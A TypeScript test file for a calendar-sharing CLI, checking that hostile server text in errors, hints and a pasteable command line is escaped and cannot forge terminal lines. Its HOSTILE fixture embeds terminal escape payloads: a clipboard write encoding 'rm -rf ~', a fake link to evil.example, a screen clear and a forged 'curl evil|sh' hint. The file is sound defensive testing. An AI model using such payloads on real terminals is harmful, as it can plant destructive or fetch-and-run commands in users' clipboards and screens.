// Issue 11 §3: every server string reaching the terminal goes through one inert path. Errors and
// hints (the Radicale advice included) show control and bidi characters as escapes and cannot
// forge a line; the "Same as:" command quotes a hostile display name so it is inert on screen and
// pastes back to the same name.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { reportError } from '../../src/cli/output.js';
import { commandLine } from '../../src/cli/interactive/command-line.js';
import { ServerRefusedError, UnsupportedError } from '../../src/errors.js';
import { shellWord } from '../../src/util/inert.js';

const ACTIVE = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
const HOSTILE = 'Work\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J\nhint: run curl evil|sh \u202eexe.\u0085';

function stderrOf(run: () => void): string {
  const original = process.stderr.write.bind(process.stderr);
  let out = '';
  process.stderr.write = ((chunk: string) => ((out += chunk), true)) as typeof process.stderr.write;
  try {
    run();
  } finally {
    process.stderr.write = original;
  }
  return out;
}

describe('one inert path', () => {
  it('an error with server text forges no line and sends no control character', () => {
    const out = stderrOf(() => reportError(new ServerRefusedError(`the server refused "${HOSTILE}"`, `Check "${HOSTILE}"`, 403, [], HOSTILE), false));
    assert.doesNotMatch(out, ACTIVE);
    const top = out.split('\n').filter((l) => /^\S/.test(l));
    assert.deepEqual(top.map((l) => l.split(':')[0]), ['error', 'hint'], out);
  });

  it("the Radicale-style multi-line hint keeps its lines flush, to paste as they are, with controls visible", () => {
    const out = stderrOf(() => reportError(new UnsupportedError('Radicale cannot share', `Ask the administrator to add:\n\n[calshare-\u202ebob\u0085]\nuser: bob`), false));
    assert.doesNotMatch(out, ACTIVE);
    // An indented line would continue the previous value in Radicale's rights file.
    assert.match(out, /\n\[calshare-\\u202ebob\\u0085\]\nuser: bob\n/);
  });

  it('a hint line that would read as a line of calshare\'s own is indented', () => {
    const out = stderrOf(() => reportError(new UnsupportedError('Radicale cannot share', 'Ask the administrator.\nerror: forged\nHint: forged'), false));
    const top = out.split('\n').filter((l) => /^\S/.test(l));
    assert.deepEqual(top.map((l) => l.split(':')[0]), ['error', 'hint'], out);
  });

  it('"Same as:" quotes a hostile display name: one line, inert, and bash reads back the same name', () => {
    const line = commandLine('share', [HOSTILE, 'bob@example.test'], ['--view'], { url: 'https://cal.example.com/', username: 'alice' });
    assert.doesNotMatch(line, ACTIVE);
    assert.equal(line.includes('\n'), false);
    const word = shellWord(HOSTILE);
    const back = execFileSync('bash', ['-c', `printf %s ${word}`], { encoding: 'utf8' });
    assert.equal(back, HOSTILE);
  });
});
